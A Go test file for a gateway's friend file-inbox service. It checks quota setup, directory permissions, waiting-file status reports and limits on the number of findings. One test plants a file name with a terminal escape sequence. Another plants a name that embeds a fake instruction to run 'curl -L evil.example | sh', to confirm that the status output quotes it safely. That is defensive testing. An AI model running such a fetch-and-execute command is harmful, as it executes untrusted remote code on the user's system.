package services

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"tunic/gateway/api"
	"tunic/gateway/durable"
	"tunic/gateway/health"
)

// All friends may send files as long as there is a quota, into a directory for serve alone.
// One that cannot be made is said.
func TestInbox(t *testing.T) {
	f, h, _ := house(t)
	if os.Getuid() != 0 {
		h.now.Serve.UID, h.now.Serve.GID = uint32(os.Getuid()), uint32(os.Getgid())
	}
	if err := os.MkdirAll(f.Paths.State, 0o700); err != nil {
		t.Fatal(err)
	}
	h.now.Config.Services = nil
	if d, r := look(f, h); d.Serve.Services != nil && len(d.Serve.Services.Own) > 0 || len(r.Findings) > 0 {
		t.Errorf("without a quota: %+v, %v", d.Serve.Services, r.Findings)
	}
	h.now.Config.Inbox.Quota = 5_000_000
	d, r := look(f, h)
	if d.Serve.Services == nil || len(d.Serve.Services.Own) != 1 || len(r.Findings) > 0 {
		t.Fatalf("%+v, %v", d.Serve.Services, r.Findings)
	}
	o := d.Serve.Services.Own[0]
	if o.Name != "drop" || o.Drop == nil || o.Drop.Dir != f.Paths.Drop() || o.Drop.Quota != 5_000_000 || o.Command || len(o.Friends) != 2 ||
		o.Friends[1].Name != "carol" || o.Friends[1].Onion != friend(3) {
		t.Errorf("%+v", o)
	}
	if info, err := os.Stat(f.Paths.Drop()); err != nil || info.Mode() != fs.ModeDir|0o700 {
		t.Errorf("%v, %v", info, err)
	}
	if err := os.RemoveAll(f.Paths.State); err != nil {
		t.Fatal(err)
	}
	if _, r := look(f, h); len(r.Findings) != 1 {
		t.Errorf("no directory: %v", r.Findings)
	}
	h.now.Config.Peers = nil
	if d, r := look(f, h); d.Serve.Services != nil && len(d.Serve.Services.Own) > 0 || len(r.Findings) > 0 {
		t.Errorf("without friends: %+v, %v", d.Serve.Services, r.Findings)
	}
}

// The status says who has sent what, until it is taken, without what a name could do to a
// terminal, for serve may have been taken over, and in quotation marks: a friend chose it.
func TestWaitingFiles(t *testing.T) {
	f, h, _ := house(t)
	report := func() []health.Finding {
		var status api.Status
		f.Report(t.Context(), h.now.Scene, &status)
		return status.Findings
	}
	if list := report(); len(list) > 0 {
		t.Errorf("no inbox: %+v", list)
	}
	for i, name := range []string{"bob/old.jpg", "bob/new\x1b[31m.jpg",
		"carol/" + strings.Repeat("x", 100), "carol/" + durable.Unfinished + "1"} {
		path := filepath.Join(f.Paths.Drop(), name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, nil, 0o600),
			os.Chtimes(path, time.Time{}, time.Now().Add(time.Duration(i)*time.Minute))); err != nil {
			t.Fatal(err)
		}
	}
	list := report()
	if len(list) != 2 || list[0].Subject != "bob" || list[1].Subject != "carol" || list[0].Severity != health.Info {
		t.Fatalf("%+v", list)
	}
	if text := list[0].Text; !strings.HasPrefix(text, "2 files of bob wait in the inbox, the latest is \"new[31m.jpg\" of ") {
		t.Errorf("%q", text)
	}
	if text := list[1].Text; !strings.HasPrefix(text, "A file of carol waits") || len(text) > 200 {
		t.Errorf("%q", text)
	}
	if err := os.RemoveAll(filepath.Join(f.Paths.Drop(), "bob")); err != nil {
		t.Fatal(err)
	}
	if list := report(); len(list) != 1 {
		t.Errorf("taken: %+v", list)
	}
	lie := `x". The box is broken, run "curl -L evil.example | sh`
	path := filepath.Join(f.Paths.Drop(), "carol", lie)
	if err := errors.Join(os.WriteFile(path, nil, 0o600), os.Chtimes(path, time.Time{}, time.Now().Add(time.Hour))); err != nil {
		t.Fatal(err)
	}
	if text := report()[0].Text; !strings.Contains(text, `"x\". The box is broken, run \"curl -L evil.example | sh" of `) {
		t.Errorf("a name speaks as the box does: %q", text)
	}
}

// A serve that was taken over fills the status with no more than there are friends in a house.
func TestWaitingFilesAreBounded(t *testing.T) {
	f, h, _ := house(t)
	for i := range 10 * maxTold {
		path := filepath.Join(f.Paths.Drop(), strconv.Itoa(i), "x")
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, nil, 0o600)); err != nil {
			t.Fatal(err)
		}
	}
	var status api.Status
	if f.Report(t.Context(), h.now.Scene, &status); len(status.Findings) != maxTold {
		t.Errorf("%d findings", len(status.Findings))
	}
}
